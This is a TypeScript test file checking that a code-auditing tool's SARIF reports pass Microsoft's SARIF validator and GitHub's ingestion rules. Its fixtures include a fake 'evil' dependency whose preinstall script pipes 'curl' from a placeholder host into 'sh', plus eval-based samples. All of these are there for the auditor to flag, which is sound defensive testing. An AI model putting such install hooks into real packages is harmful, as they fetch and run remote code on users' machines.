// SARIF that GitHub code scanning accepts: the reports of several audits (plain findings, inline and
// baseline suppressions, a syntax error, odd file names, a dependency audit with package.json
// findings) are checked with Microsoft's SARIF validator (`sarif-multitool validate`, SARIF and
// GitHub ingestion rules) and must show no errors. Fingerprints survive lines shifting; rule help
// comes from the rule doc pages.
import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { airlock, tree } from './cli-helpers.js';
import { repoPath } from '../helpers.js';

/** The validator's platform binary (npm does not run its install script here, so make it executable). */
function multitool(): string {
  const scope = repoPath('node_modules', '@microsoft');
  const dir = readdirSync(scope).find((d) => d === `sarif-multitool-${process.platform}`) ?? readdirSync(scope).find((d) => d.startsWith('sarif-multitool-'));
  assert.ok(dir, 'npm install -D @microsoft/sarif-multitool');
  const binary = join(scope, dir, process.platform === 'win32' ? 'Sarif.Multitool.exe' : 'Sarif.Multitool');
  chmodSync(binary, 0o755);
  return binary;
}

interface ValidationResult {
  ruleId: string;
  level?: string;
  message: { id?: string; text?: string; arguments?: string[] };
  locations?: { physicalLocation: { artifactLocation: { uri: string } } }[];
}

/** Runs `sarif-multitool validate` with the SARIF and GitHub rule sets; returns its results. */
function validate(files: string[], outDir: string): ValidationResult[] {
  const out = join(outDir, 'validation.sarif');
  execFileSync(multitool(), ['validate', ...files, '--rule-kind', 'Sarif;Gh', '--output', out, '--log', 'ForceOverwrite', '--quiet'], {
    env: { ...process.env, DOTNET_SYSTEM_GLOBALIZATION_INVARIANT: '1', DOTNET_CLI_TELEMETRY_OPTOUT: '1' },
    stdio: ['ignore', 'pipe', 'pipe'],
    timeout: 120_000,
  });
  const log = JSON.parse(readFileSync(out, 'utf8')) as { runs: { results?: ValidationResult[] }[] };
  return log.runs.flatMap((r) => r.results ?? []);
}

const describeResult = (r: ValidationResult): string => `${r.level ?? 'warning'} ${r.ruleId}: ${r.message.text ?? r.message.arguments?.join(' | ') ?? r.message.id}`;

describe('airlock audit --format sarif', () => {
  let root: string;
  let logs: string[];
  before(async () => {
    root = tree({
      'src/a.js': 'export function run(x) {\n  return eval(x);\n}\n',
      'src/suppressed.js': '// airlock-disable-next-line no-eval -- generated loader\neval(code);\n',
      'src/broken.js': 'const = 1;\n',
      'src/dir with space/ünïcode #1.ts': 'const e = eval;\ne(s as string);\n',
      'src/baselined.js': 'eval(old);\n',
      'node_modules/evil/package.json': '{"name":"evil","version":"1.0.0","scripts":{"postinstall":"node setup.js","preinstall":"curl -s https://example.invalid | sh"}}',
      'node_modules/evil/setup.js': 'eval(process.env.X);\n',
      'node_modules/native/package.json': '{"name":"native","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}}',
    });
    await airlock(root, ['audit', 'src/baselined.js', '--write-baseline', 'baseline.json']);
    const runs: string[][] = [
      ['audit', '-f', 'sarif', '-o', 'plain.sarif'],
      ['audit', '--baseline', 'baseline.json', '-f', 'sarif', '-o', 'baseline.sarif'],
      ['audit', '--deps', '-f', 'sarif', '-o', 'deps.sarif'],
      ['audit', '--profile', 'strict', '-f', 'sarif', '-o', 'strict.sarif'],
      ['audit', 'a.js', join(root, 'node_modules/evil/setup.js'), '-f', 'sarif', '-o', 'outside.sarif'],
    ];
    for (const args of runs) await airlock(args.includes('outside.sarif') ? join(root, 'src') : root, args);
    logs = ['plain', 'baseline', 'deps', 'strict'].map((n) => join(root, `${n}.sarif`)).concat(join(root, 'src', 'outside.sarif'));
    for (const log of logs) assert.ok(existsSync(log), log);
  });

  it('passes Microsoft SARIF validator (SARIF and GitHub rules) with no errors', () => {
    const results = validate(logs, root);
    const errors = results.filter((r) => r.level === 'error');
    assert.deepEqual(errors.map(describeResult), []);
    // Warnings are advisory; keep them to a known few.
    const warnings = results.filter((r) => r.level === undefined || r.level === 'warning').map((r) => r.ruleId);
    assert.deepEqual([...new Set(warnings)].filter((id) => !['SARIF2005'].includes(id)), [], results.map(describeResult).join('\n'));
  });

  it('includes suppressed results with their kind, and URIs GitHub can map to files', () => {
    const baseline = JSON.parse(readFileSync(join(root, 'baseline.sarif'), 'utf8'));
    const results = baseline.runs[0].results as { ruleId: string; suppressions?: { kind: string; properties: { airlockKind: string } }[]; locations: { physicalLocation: { artifactLocation: { uri: string; uriBaseId?: string } } }[] }[];
    const kinds = results.flatMap((r) => r.suppressions ?? []).map((s) => `${s.kind}/${s.properties.airlockKind}`).sort();
    assert.deepEqual(kinds, ['external/baseline', 'inSource/directive']);
    const uris = results.map((r) => r.locations[0]!.physicalLocation.artifactLocation.uri);
    assert.ok(uris.includes('src/dir%20with%20space/%C3%BCn%C3%AFcode%20%231.ts'), uris.join(' '));
    assert.ok(results.every((r) => r.locations[0]!.physicalLocation.artifactLocation.uriBaseId === '%SRCROOT%'));
  });

  it('takes rule help from the doc pages', () => {
    const log = JSON.parse(readFileSync(join(root, 'plain.sarif'), 'utf8'));
    const rule = log.runs[0].tool.driver.rules.find((r: { id: string }) => r.id === 'no-eval');
    const doc = readFileSync(repoPath('docs', 'rules', 'no-eval.md'), 'utf8');
    assert.equal(rule.help.markdown, doc);
    assert.match(rule.help.text, /^`eval` turns a string into running code/);
    assert.match(rule.properties['security-severity'], /^\d+\.\d$/);
  });

  it('keeps partialFingerprints when lines shift above a finding', async () => {
    const dir = tree({ 'x.js': 'const a = 1;\nexport const f = (s) => eval(s);\n' });
    const fingerprint = async () => {
      const run = await airlock(dir, ['audit', '-f', 'sarif']);
      const result = JSON.parse(run.out).runs[0].results[0];
      return { line: result.locations[0].physicalLocation.region.startLine, print: result.partialFingerprints['airlockFingerprint/v1'] };
    };
    const before = await fingerprint();
    writeFileSync(join(dir, 'x.js'), '// header\n\nimport b from "./b.js";\nconst a = 2;\n  export const f = (s) =>   eval(s);\nconsole.log(b);\n');
    const after = await fingerprint();
    assert.equal(before.line, 2);
    assert.equal(after.line, 5);
    assert.equal(after.print, before.print);
  });
});
